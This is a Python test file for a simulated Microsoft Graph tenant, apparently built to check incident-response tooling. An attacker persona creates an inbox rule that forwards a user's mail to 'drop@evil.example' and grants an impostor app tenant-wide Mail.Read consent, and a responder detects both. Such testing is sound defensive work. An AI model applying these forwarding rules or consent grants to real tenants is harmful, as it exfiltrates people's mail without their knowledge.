"""Mailboxes and consents: who has one, what is refused and how, and what the collectors of an emergency make of it."""

import httpx
import pytest

from infra.local import world
from infra.local.tenant.control import TenantControl
from infra.local.tenant.instants import instant
from infra.local.tenant.sign_in_records import sign_in_record
from infra.local.world import Json
from tests.integration.infra.local.tenant.conftest import Acting

_RULES = "/v1.0/users/{}/mailFolders/inbox/messageRules"
_SETTINGS = "/v1.0/users/{}/mailboxSettings"
_CONSENTS = "/v1.0/oauth2PermissionGrants"
_FORWARD: Json = {
    "displayName": "..",
    "actions": {"forwardTo": [{"emailAddress": {"address": "drop@evil.example"}}]},
}


def _refusal(answer: httpx.Response) -> tuple[int, str]:
    return answer.status_code, answer.json()["error"]["code"]


@pytest.fixture
def responder(acting: Acting) -> httpx.Client:
    return acting(world.RESPONDER)


@pytest.fixture
def mallory(acting: Acting) -> httpx.Client:
    return acting(world.MALLORY)


def test_an_attacker_can_forward_mail_and_the_responder_sees_it(mallory: httpx.Client, responder: httpx.Client) -> None:
    path = _RULES.format(world.ALICE.id)
    assert responder.get(path).json()["value"] == []
    made = mallory.post(path, json=_FORWARD)
    assert made.status_code == 201
    (rule,) = responder.get(path).json()["value"]
    assert rule["actions"] == _FORWARD["actions"]
    assert rule["isEnabled"] is True
    assert mallory.delete(f"{path}/{rule['id']}").status_code == 204
    assert responder.get(path).json()["value"] == []
    assert _refusal(mallory.delete(f"{path}/{rule['id']}")) == (404, "ErrorItemNotFound")


def test_automatic_replies_are_switched_on(mallory: httpx.Client, responder: httpx.Client) -> None:
    path = _SETTINGS.format(world.ALICE.id)
    assert responder.get(path).json()["automaticRepliesSetting"]["status"] == "disabled"
    mallory.patch(path, json={"automaticRepliesSetting": {"status": "alwaysEnabled"}})
    assert responder.get(path).json()["automaticRepliesSetting"]["status"] == "alwaysEnabled"


@pytest.mark.parametrize("path", [_RULES, _SETTINGS])
def test_who_has_no_mailbox_is_another_404_than_who_does_not_exist(responder: httpx.Client, path: str) -> None:
    no_mailbox = (404, "MailboxNotEnabledForRESTAPI")
    assert _refusal(responder.get(path.format(world.BREAK_GLASS_1.id))) == no_mailbox
    assert _refusal(responder.get(path.format(world.GINA.id))) == no_mailbox
    assert _refusal(responder.get(path.format("0" * 36))) == (404, "ErrorInvalidUser")


@pytest.mark.parametrize("path", [_RULES, _SETTINGS])
def test_without_the_permission_exchange_refuses_with_a_code_of_its_own(
    control: TenantControl, acting: Acting, path: str
) -> None:
    control.revoke(world.RESPONDER, "MailboxSettings.Read")
    answer = acting(world.RESPONDER).get(path.format(world.ALICE.id))
    assert _refusal(answer) == (403, "ErrorAccessDenied")


def test_reading_is_not_writing(responder: httpx.Client) -> None:
    assert _refusal(responder.post(_RULES.format(world.ALICE.id), json=_FORWARD)) == (403, "ErrorAccessDenied")


@pytest.mark.parametrize(
    "body", [{}, {"displayName": "x"}, {"displayName": "x", "actions": {}}, {"displayName": "x", "actions": {"y": 1}}]
)
def test_a_rule_that_is_none_is_refused(mallory: httpx.Client, body: Json) -> None:
    assert mallory.post(_RULES.format(world.ALICE.id), json=body).status_code == 400


def test_consents_are_given_and_listed(mallory: httpx.Client, responder: httpx.Client) -> None:
    before = responder.get(_CONSENTS).json()["value"]
    body = {"clientId": world.IMPOSTOR.id, "consentType": "AllPrincipals", "scope": "Mail.Read"}
    assert mallory.post(_CONSENTS, json=body).status_code == 201
    (consent,) = (each for each in responder.get(_CONSENTS).json()["value"] if each not in before)
    assert consent["scope"] == "Mail.Read"
    assert mallory.post(_CONSENTS, json=body | {"consentType": "Principal"}).status_code == 400
    assert _refusal(responder.post(_CONSENTS, json=body)) == (403, "Authorization_RequestDenied")


def test_a_reset_empties_mailboxes_and_consents(control: TenantControl, mallory: httpx.Client) -> None:
    before = control.state()
    mallory.post(_RULES.format(world.ALICE.id), json=_FORWARD)
    assert control.state() != before
    control.reset()
    assert control.state()[world.WORKFORCE_TENANT]["mailboxes"] == before[world.WORKFORCE_TENANT]["mailboxes"]


def test_both_logs_are_asked_for_one_account_page_by_page(control: TenantControl, responder: httpx.Client) -> None:
    for number in range(5):
        person = world.ALICE if number % 2 else world.MALLORY
        control.add_sign_in(sign_in_record(person, id=f"s-{number}"), tenant=world.WORKFORCE_TENANT)
    terms = (
        f"createdDateTime ge 2026-01-01T00:00:00Z and createdDateTime le {instant()} and userId eq '{world.MALLORY.id}'"
    )
    url, found = "/beta/auditLogs/signIns", list[str]()
    query: dict[str, str] | None = {
        "$filter": f"{terms} and signInEventTypes/any(t: t eq 'interactiveUser')",
        "$top": "1",
    }
    while url:
        page = responder.get(url, params=query).json()
        found += [each["id"] for each in page["value"]]
        url, query = page.get("@odata.nextLink", ""), None
    assert sorted(found) == ["s-0", "s-2", "s-4"]


def test_the_audit_log_is_asked_for_what_one_account_did(mallory: httpx.Client, responder: httpx.Client) -> None:
    group = f"/v1.0/groups/{world.EVERYBODY.id}/members/{world.DAVE.id}/$ref"
    assert mallory.delete(group).status_code == 204
    for person, count in ((world.MALLORY, 1), (world.ALICE, 0)):
        query = {"$filter": f"initiatedBy/user/id eq '{person.id}'"}
        assert len(responder.get("/v1.0/auditLogs/directoryAudits", params=query).json()["value"]) == count
    odd = responder.get("/v1.0/auditLogs/directoryAudits", params={"$filter": "result eq 'success'"})
    assert odd.status_code == 400
